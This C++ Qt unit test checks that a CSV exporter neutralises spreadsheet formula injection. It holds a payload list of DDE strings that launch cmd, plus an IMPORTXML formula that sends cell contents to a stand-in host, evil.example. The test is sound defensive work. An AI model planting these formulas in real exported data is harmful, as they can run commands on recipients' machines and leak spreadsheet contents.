        u"@SUM(1+9)*cmd|' /C calc'!A0"_s,
        u"=10+20+cmd|' /C calc'!A0"_s,
        u"%0A-3+3+cmd|' /C calc'!A0"_s,
        u"\t=1+1"_s,
        u"\r=1+1"_s,
        u"=DDE(\"cmd\";\"/C calc\";\"!A0\")"_s,
        u"=IMPORTXML(CONCAT(\"http://evil.example?v=\",CONCATENATE(A2:E2)),\"//a\")"_s,
        u"=IMPORTRANGE(\"https://docs.google.com/spreadsheets/d/x\",\"sheet!A1\")"_s,
        u"=1+1"_s,
        u"=\"a\",\"b\""_s,
        u"=\r\n1+1"_s,
        u"@"_s,
        u"-"_s,
    };
    for (const QString &p : payloads)
        QTest::addRow("%s",
                      qPrintable(QString(p)
                                         .replace(u'\t', u"\\t"_s)
                                         .replace(u'\r', u"\\r"_s)
                                         .replace(u'\n', u"\\n"_s)))
                << p;
}

void tst_Secrets::formulaInjection()
{
    QFETCH(QString, payload);
    // The payload in every field a sender controls: type, IDs, team, actor, title (summary),
    // a JSON path column, the path and query, a header, and the raw body column.
    const QJsonObject message{
        { u"eventId"_s, payload },
        { u"eventType"_s, payload },
        { u"orgId"_s, payload },
        { u"teamId"_s, payload },
        { u"actor"_s, QJsonObject{ { u"email"_s, payload } } },
        { u"payload"_s,
          QJsonObject{
                  { u"ticket"_s, QJsonObject{ { u"id"_s, payload }, { u"title"_s, payload } } } } },
    };
    Event event;
    event.body =
            QJsonDocument(QJsonObject{ { u"message"_s, message } }).toJson(QJsonDocument::Compact);
    event.contentType = u"application/json"_s;
    event.method = u"POST"_s;
    event.path = u"/"_s + payload;
    event.query = u"q="_s + QString::fromLatin1(QUrl::toPercentEncoding(payload));
    event.headers = { { "User-Agent", payload.toUtf8() } };
    event.summary.receivedAt = 1795166043000;
    event.summary.source = EventSource::Local;
    EventParser::parse(event.body, "application/json").applyTo(event);
    bool committed = false;
    m_store->submit(event, [&](qint64 id, const QString &) { committed = id > 0; });
    m_store->flush();
    QVERIFY(committed);

    QByteArray out;
    QBuffer buffer(&out);
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    const QStringList columns = EventExporter::builtinColumns()
            + QStringList{ u"payload.ticket.title"_s, u"payload.ticket.id"_s, u"actor.email"_s };
    EventExporter exporter(&buffer, EventExporter::Format::Csv, columns);
    QVERIFY(m_store->forEachEvent([&](const Event &e) { return exporter.write(e); }));
    QVERIFY(exporter.finish());

    const QList<QStringList> rows = CsvWriter::parse(out);
    QCOMPARE(rows.size(), 2);
    QCOMPARE(rows.at(0), columns);
    QCOMPARE(rows.at(1).size(), columns.size());
    int guarded = 0;
    for (qsizetype c = 0; c < columns.size(); ++c) {
        const QString &cell = rows.at(1).at(c);
        // No cell starts a formula in a spreadsheet...
        QVERIFY2(!CsvWriter::needsFormulaGuard(cell),
                 qPrintable(u"column %1 starts a formula: %2"_s.arg(columns.at(c), cell)));
        // ...and the data is still all there, behind the guard's apostrophe.
        if (cell == u'\'' + payload)
            ++guarded;
    }
    // type, event_id, team, actor, payload.ticket.title, payload.ticket.id, actor.email
    // carry the payload unchanged (the summary is simplified to one line, so it may differ).
    QVERIFY2(guarded >= (CsvWriter::needsFormulaGuard(payload) ? 5 : 0),
             qPrintable(rows.at(1).join(u" | "_s)));
}

QTEST_MAIN(tst_Secrets)
#include "tst_secrets.moc"
